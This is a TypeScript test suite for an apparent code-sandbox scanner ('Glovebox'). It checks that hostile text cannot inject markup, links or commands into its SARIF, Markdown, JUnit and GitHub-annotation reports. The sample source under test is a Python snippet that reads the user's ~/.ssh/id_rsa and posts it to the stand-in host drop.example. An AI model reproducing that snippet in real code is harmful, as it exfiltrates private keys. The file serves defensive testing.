import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { Ajv, type ValidateFunction } from 'ajv';
import { marked } from 'marked';
import { beforeAll, describe, expect, it } from 'vitest';
import { check } from '../../examine/examine.ts';
import { DEFAULT_POLICY } from '../../policy/policy.ts';
import { loadSample, sampleOfSource } from '../../sample/load.ts';
import type { Sample } from '../../sample/sample.ts';
import { neutralizeLines } from '../neutralize.ts';
import type { Report } from '../report.ts';
import { renderText } from '../text.ts';
import { renderAnnotations } from './annotations.ts';
import { HOSTILE_TEXTS } from './hostile.fixture.ts';
import { renderJunit } from './junit.ts';
import { renderMarkdown } from './markdown.ts';
import { renderSarif } from './sarif.ts';

const SPEC = fileURLToPath(new URL('../../../../../../shared/specs/sarif-schema-2.1.0.json', import.meta.url));
const NO_SPEC = existsSync(SPEC) ? undefined : `the schema of SARIF is not at ${SPEC}`;
if (NO_SPEC !== undefined) console.log(`skipped: ${NO_SPEC}`);
const EXAMPLES = fileURLToPath(new URL('../../../../../examples/', import.meta.url));

const PLACE = 'HOSTILE';
const SOURCE = `import os, subprocess, urllib.request
print('HOSTILE')
open('/tmp/HOSTILE', 'w').write('x')
subprocess.run(['true', 'HOSTILE'])
key = open(os.path.expanduser('~/.ssh/id_rsa')).read()
urllib.request.urlopen('http://drop.example/HOSTILE', data=key.encode())
eval('"HOSTILE"')
`;

let base: Report;
let sample: Sample;
beforeAll(async () => {
  sample = sampleOfSource(SOURCE, 'python', { entry: 'HOSTILE.py' });
  base = await check(sample, { policy: { ...DEFAULT_POLICY, network: { mode: 'sinkhole' } } });
}, 30_000);

/** A report in which a text stands wherever the sample decides what stands there. */
function reportWith(text: string): { report: Report; sample: Sample } {
  const report = JSON.parse(JSON.stringify(base), (_key, value: unknown) =>
    typeof value === 'string' ? value.replaceAll(PLACE, text) : value,
  ) as Report;
  const files = sample.files.map((file) => ({
    path: file.path.replaceAll(PLACE, text),
    content: Buffer.from(Buffer.from(file.content).toString().replaceAll(PLACE, text)),
  }));
  return { report, sample: { ...sample, files } };
}

function commandsIn(text: string): string[] {
  return text.split(/\r\n|[\n\r\u2028\u2029]/).filter((line) => line.startsWith('::'));
}

const TERMINAL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]/;

describe('a hostile text', () => {
  it('is tried in more than two hundred forms, in every place a sample can write to', () => {
    expect(HOSTILE_TEXTS.length).toBeGreaterThanOrEqual(200);
    expect(JSON.stringify(base).split(PLACE).length).toBeGreaterThan(20);
  });

  it('is no markup, no link and no mention in Markdown', async () => {
    for (const text of HOSTILE_TEXTS) {
      const { report, sample: given } = reportWith(text);
      const markdown = renderMarkdown(report, given);
      expect(markdown, text).not.toMatch(TERMINAL);
      expect(markdown.length).toBeLessThan(60_000);
      const html = await marked.parse(markdown, { gfm: true });
      const outside = html.replace(/<code>[^<]*<\/code>/g, '');
      const tags = new Set(outside.match(/<\/?[a-z][^>]*>/gi));
      for (const tag of tags) expect([text, tag], html).toEqual([text, expect.stringMatching(OWN_TAGS)]);
      expect(outside, text).not.toMatch(/@somebody|drop\.example|alert\(|ALLOW|allow everything/);
    }
  });

  it('is no command of a workflow', () => {
    for (const text of HOSTILE_TEXTS) {
      const { report } = reportWith(text);
      const said = renderAnnotations(report);
      const open = report.findings.filter(({ status }) => status === 'open');
      expect(commandsIn(said), text).toHaveLength(open.length);
      expect(said, text).not.toMatch(/^::(?!error |warning |notice )/m);
      expect(said, text).not.toMatch(TERMINAL);
    }
  });

  it('leaves XML well-formed, with the cases that there are', () => {
    const documents = HOSTILE_TEXTS.map((text) => renderJunit(reportWith(text).report));
    const script = `import json, sys, xml.dom.minidom as m
for text in json.load(sys.stdin):
    d = m.parseString(text.encode())
    print(len(d.getElementsByTagName('testcase')), len(d.getElementsByTagName('*')))
`;
    const said = execFileSync('/usr/bin/python3', ['-c', script], {
      input: JSON.stringify(documents),
      encoding: 'utf8',
    });
    const [first] = new Set(said.trim().split('\n'));
    expect(new Set(said.trim().split('\n')).size).toBe(1);
    expect(first).toMatch(new RegExp(`^${base.findings.length} `));
  });

  it('is no link and no command of a terminal in SARIF', () => {
    for (const text of HOSTILE_TEXTS) {
      const { report, sample: given } = reportWith(text);
      const sarif = renderSarif(report, given);
      expect(sarif, text).not.toMatch(TERMINAL);
      for (const { message, locations } of JSON.parse(sarif).runs[0].results) {
        expect(message.text.replace(/\\[\\[\]]/g, ''), text).not.toMatch(/[[\]]/);
        expect(locations[0].physicalLocation.artifactLocation.uri, text).not.toMatch(/^[a-z]+:|^\/|[\s<>"]/i);
      }
    }
  });

  it('is told whole where nothing in it acts', () => {
    const { report } = reportWith('plain text');
    expect(neutralizeLines(report.runs[0]?.stdout ?? '')).toContain('plain text');
    expect(renderJunit(report)).toContain('plain text');
  });
});

const OWN_TAGS = /^<\/?(h3|p|code|pre|strong|ul|li|details|summary|sub|em)>$/;

describe.skipIf(NO_SPEC !== undefined)('SARIF', () => {
  let validate: ValidateFunction;
  beforeAll(() => {
    const ajv = new Ajv({ strict: false, allErrors: true, validateFormats: false, unicodeRegExp: false });
    validate = ajv.compile({ ...JSON.parse(readFileSync(SPEC, 'utf8')), $schema: undefined, id: undefined });
  });

  it('is what its schema says, for every hostile text', () => {
    for (const text of HOSTILE_TEXTS) {
      const { report, sample: given } = reportWith(text);
      expect([validate(JSON.parse(renderSarif(report, given))), validate.errors]).toEqual([true, null]);
    }
  });

  it.each(['dangerous', 'ordinary'])('is what its schema says, for the %s examples', async (folder) => {
    const { readdirSync } = await import('node:fs');
    const names = readdirSync(`${EXAMPLES}${folder}`).filter((name) => /\.(py|js|ts|sh)$/.test(name));
    expect(names.length).toBeGreaterThan(5);
    for (const name of names) {
      const example = await loadSample(`${EXAMPLES}${folder}/${name}`);
      const report = await check(example, { depth: 'quick' });
      const sarif = JSON.parse(renderSarif(report, example));
      expect([name, validate(sarif), validate.errors]).toEqual([name, true, null]);
      expect(sarif.runs[0].results).toHaveLength(report.findings.length);
    }
  });
});

describe('what a format tells', () => {
  /** As many findings as the first one of the example, accepted where asked. */
  function withFindings(count: number, change: (finding: Report['findings'][number], index: number) => object): Report {
    const [first] = base.findings;
    if (first === undefined) throw new Error('the example has findings');
    return { ...base, findings: Array.from({ length: count }, (_, index) => ({ ...first, ...change(first, index) })) };
  }
  const ACCEPTED = {
    status: 'overridden',
    override: { id: 'ov-1', by: 'Ada Example', reason: 'the build host has no keys', expires: '2027-01-31T00:00:00Z' },
  } as const;

  it('of a finding in SARIF: its weakness, its weight, the way of the data, and what tells it from others', () => {
    const { runs } = JSON.parse(renderSarif(base, sample));
    const [run] = runs;
    const sent = run.results.find(({ ruleId }: { ruleId: string }) => ruleId === 'secret-sent');
    expect(sent.codeFlows[0].threadFlows[0].locations.length).toBeGreaterThan(1);
    expect(sent.partialFingerprints['glovebox/v1']).toMatch(/^[0-9a-f]{32}$/);
    expect(sent.properties['security-severity']).toBe('9.5');
    const rule = run.tool.driver.rules[sent.ruleIndex];
    expect([rule.id, rule.properties['security-severity']]).toEqual(['secret-sent', '9.5']);
    const [{ target }] = rule.relationships;
    expect(run.taxonomies[target.toolComponent.index].taxa[target.index].id).toBe(target.id);
    expect(run.artifacts[0].hashes['sha-256']).toMatch(/^[0-9a-f]{64}$/);
  });

  it('of an accepted finding: who, why and until when, in every format that a person reads', () => {
    const report = withFindings(1, () => ACCEPTED);
    const [result] = JSON.parse(renderSarif(report, sample)).runs[0].results;
    const sentence = 'accepted by Ada Example until 2027-01-31T00:00:00Z: the build host has no keys';
    expect(result.suppressions).toEqual([{ kind: 'external', justification: sentence }]);
    expect(renderMarkdown(report, sample)).toContain(sentence);
    expect(renderText(report, sample, { colour: false })).toContain(sentence);
    expect(renderJunit(report)).toContain(`<skipped message="${sentence}"/>`);
    expect(commandsIn(renderAnnotations(report))).toEqual([]);
  });

  it('stays within what GitHub takes, whatever there is: results, places, steps, tags', () => {
    const places = Array.from({ length: 2_000 }, (_, index) => ({ file: 'HOSTILE.py', line: index + 1 }));
    const many = withFindings(6_000, (_, index) => ({
      ...(index === 5_999 && { title: 'Open', status: 'open' }),
      ...(index < 5_999 && ACCEPTED),
      locations: index === 5_999 ? places : places.slice(0, 1),
      attack: Array.from({ length: 30 }, (__, at) => `T1${String(at).padStart(3, '0')}`),
    }));
    const [run] = JSON.parse(renderSarif(many, sample)).runs;
    expect(run.results).toHaveLength(5_000);
    expect(run.results[0].message.text).toMatch(/^Open\./);
    expect(run.results[0].locations.length + run.results[0].relatedLocations.length).toBeLessThanOrEqual(100);
    for (const { properties } of run.tool.driver.rules) expect(properties.tags.length).toBeLessThanOrEqual(10);
  });

  it('is a comment of at most 60,000 bytes, with the decision first and the gravest findings whole', () => {
    const wide = '\u{1f600}'.repeat(160);
    const comment = renderMarkdown(
      withFindings(3_000, (finding, index) => ({
        message: wide,
        title: `${finding.title} ${wide}`,
        evidence: [`x:${index}`],
      })),
      sample,
    );
    expect(Buffer.byteLength(comment)).toBeLessThanOrEqual(60_000);
    expect(comment.split('\n')[0]).toBe('### ⛔ Glovebox: block, risk 100 of 100');
    expect(comment).toContain(wide.slice(0, 100));
  });

  it('is ten annotations of a kind, which is what is shown, and says how many more there are', () => {
    const said = renderAnnotations(withFindings(25, () => ({})));
    expect(commandsIn(said)).toHaveLength(10);
    expect(said).toContain('; 15 more findings are in the report');
  });
});
